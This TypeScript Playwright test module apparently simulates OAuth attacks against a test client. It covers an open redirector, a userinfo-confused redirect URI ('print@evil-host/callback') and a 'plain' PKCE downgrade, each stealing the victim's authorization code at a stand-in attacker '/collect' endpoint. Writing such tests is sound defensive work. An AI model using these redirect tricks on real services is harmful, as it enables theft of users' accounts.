import type { Page } from "@playwright/test";
import { ALICE, EVIL, SCOPE } from "../../../src/grants/cast.ts";
import { s256 } from "../../../src/oauth/pkce.ts";
import { randomToken } from "../../../src/oauth/random.ts";
import { withQuery } from "../../../src/oauth/wire.ts";
import { moved } from "../addresses.ts";
import { lootIn, spendLoot } from "../attacker.ts";
import type { Arrived } from "../evil/site.ts";
import { answerKept, asking, askAtPrint, lure, signInAndAllow } from "../people.ts";
import type { RealAttack, Scene } from "../scene.ts";
import type { Sites } from "../sites.ts";

/** Print's own site sends the browser on to Mallory's. */
export const openRedirector: RealAttack = {
  run: (scene) => {
    const { origins } = scene.sites;
    const to = moved(`${EVIL}/`, origins);
    return misdirected(scene, withQuery(`${origins.print}/out`, { to }));
  },
};

/** What begins like Print's redirect URI is a user name at Mallory's site (RFC 3986 §3.2.1): ports leave no room for a longer host. */
export const looseRedirect: RealAttack = {
  run: (scene) => {
    const { print, evil } = scene.sites.origins;
    return misdirected(scene, `${print}@${new URL(evil).host}/callback`);
  },
};

/** Print asks with the method “plain”; who sees both addresses has the code and its verifier. */
export const plainRequest: RealAttack = {
  print: () => ({ challengeMethod: "plain" }),
  async run(scene) {
    const { alice, sites } = scene;
    const asked = await askAtPrint(alice, sites);
    if (!asked.taken) return undefined;
    const answer = await answerKept(alice, sites, ALICE);
    const verifier = asked.url.searchParams.get("code_challenge") ?? "";
    return spendLoot(scene, lootIn([answer.href]), { verifier });
  },
};

/** The pages of Mallory's that Alice sees. */
const LURE_AND_ARRIVAL = 2;

/** Nothing has arrived when the browser stays at Print, because Print's site sends nobody on. */
async function keptAtPrint(page: Page, { origins }: Sites): Promise<readonly Arrived[]> {
  await page.waitForURL(({ origin }) => origin === origins.print);
  return [];
}

/** Alice follows a link that Mallory wrote in Print's name. */
async function misdirected(scene: Scene, redirectUri: string): Promise<string | undefined> {
  const { alice, sites, target } = scene;
  const verifier = randomToken();
  const link = withQuery(`${sites.origins.auth}/authorize`, {
    response_type: target.client.answer,
    client_id: target.client.id,
    redirect_uri: redirectUri,
    scope: SCOPE,
    ...(target.pkce ? { code_challenge: await s256(verifier), code_challenge_method: "S256" } : {}),
  });
  const { taken } = await asking(alice, sites, () => lure(alice, sites, link));
  if (!taken) return undefined;
  await signInAndAllow(alice, ALICE);
  const pages = await Promise.race([
    sites.evil.arrivals("/collect", LURE_AND_ARRIVAL),
    keptAtPrint(alice, sites),
  ]);
  const loot = lootIn(pages.map(({ body }) => body));
  return spendLoot(scene, loot, { redirectUri, ...(target.pkce ? { verifier } : {}) });
}
